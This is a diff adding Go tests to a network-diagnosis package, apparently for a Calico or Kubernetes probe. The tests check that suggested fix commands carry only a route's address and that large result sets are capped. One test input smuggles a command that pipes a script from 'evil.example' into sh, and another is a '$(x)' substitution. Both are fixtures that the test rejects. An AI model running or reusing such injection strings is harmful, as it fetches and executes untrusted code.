@@ -1,0 +1,47 @@
+package diagnose
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/calico-probe/calico-probe/probe"
+	"github.com/calico-probe/calico-probe/probe/checks"
+)
+
+// TestNetworkArg wants nothing of a route that a node writes in a command but a network or an address.
+func TestNetworkArg(t *testing.T) {
+	t.Parallel()
+	for route, want := range map[string]string{
+		"local 10.0.0.1 dev eth0": "10.0.0.1", "local 10.0.0.0/24 dev eth0": "10.0.0.0/24", "local fd00::1": "fd00::1",
+		"local ::1%;curl${IFS}evil.example|sh;# x": "", "local": "", " ": "", "local fe80::1%eth0": "", "local $(x)": "",
+	} {
+		f := Findings{Node: "worker-3"}
+		f.Add(probe.Event{Type: probe.EventResult, Node: "worker-3", Way: "pod", Result: &probe.Result{
+			Check: checks.ServiceDestination.ID, Target: "default/kubernetes 10.96.0.1:443 tcp", Status: probe.Fail,
+			Facts: probe.Facts{checks.FactService: "10.96.0.1:443", checks.FactSentTo: "10.96.0.1:443",
+				checks.FactRule: route, checks.FactMeans: checks.MeansRoute}}})
+		for _, c := range Explain(f, Rules()).Causes {
+			for _, block := range c.Fix.Blocks() {
+				text := strings.Join(block.Commands, "\n")
+				if strings.Contains(text, "evil") || strings.Contains(text, "%") || strings.Contains(text, "$(x)") ||
+					c.ID == "service-hijacked" && !strings.Contains(text, want) {
+					t.Errorf("%q: %s", route, text)
+				}
+			}
+		}
+	}
+}
+
+// TestManyUnreached has one witness give many results, each of which is compared with the others: few of them are read.
+func TestManyUnreached(t *testing.T) {
+	t.Parallel()
+	f := Findings{Node: "b"}
+	for i := range 20_000 {
+		facts := probe.Facts{checks.FactNode: "b", checks.FactPort: 10250, checks.FactFamily: 4, "i": i}
+		f.Add(probe.Event{Type: probe.EventResult, Node: "a", Way: "neighbour",
+			Result: &probe.Result{Check: checks.NeighbourReach.ID, Target: "b tcp 10250", Status: probe.Fail, Facts: facts}})
+	}
+	if n := len(Unreached(f)); n == 0 || n > mostBad {
+		t.Errorf("%d results are read", n)
+	}
+}
